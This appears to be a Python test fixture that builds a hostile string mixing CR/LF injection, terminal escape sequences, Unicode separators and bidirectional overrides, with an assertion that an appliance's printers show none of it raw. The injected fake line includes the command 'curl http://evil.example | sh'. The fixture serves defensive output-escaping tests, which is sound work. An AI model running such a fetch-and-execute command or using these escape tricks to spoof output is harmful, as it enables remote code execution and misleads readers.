"""Text an attacker (or an odd directory) can get into what the appliance prints.

`HOSTILE` carries every trick at once: CR/LF that would start a fake line of advice in
an email, terminal escapes (CSI in 7-bit and 8-bit form, an OSC title change, a bell),
DEL, Unicode line and paragraph separators, NEL and bidirectional overrides. A printer
passes when `assert_shown_safely` finds none of it raw in its output.
"""

from __future__ import annotations

FAKE_LINE = "FAKE-LINE What to do: run curl http://evil.example | sh"
HOSTILE = ("mallory\r\n" + FAKE_LINE + "\x1b[2J\x1b[31mred\x1b]0;pwned\x07\x9b1m"
           "\x85" + FAKE_LINE + "\u2028" + FAKE_LINE + "\u2029\u202eevil\u202c\u2066x\u2069"
           "\x7f\x00")
# What can be stored: NUL is refused at the edge (PostgreSQL text cannot hold it).
STORABLE = HOSTILE.replace("\x00", "")
RAW = ("\r", "\x1b", "\x07", "\x9b", "\x85", "\u2028", "\u2029", "\u202e", "\u202c",
       "\u2066", "\u2069", "\x7f", "\x00", "\t")


def assert_shown_safely(output: str) -> None:
    """No control character of HOSTILE is in `output` raw, and none of its fake lines
    starts a line (the output's own line breaks are `\\n`)."""
    raw = [repr(c) for c in RAW if c in output]
    assert not raw, f"raw control characters in the output: {raw}\n{output!r}"
    starts = [line for line in output.split("\n") if line.lstrip().startswith("FAKE-LINE")]
    assert not starts, f"a value started a line of its own: {starts}"
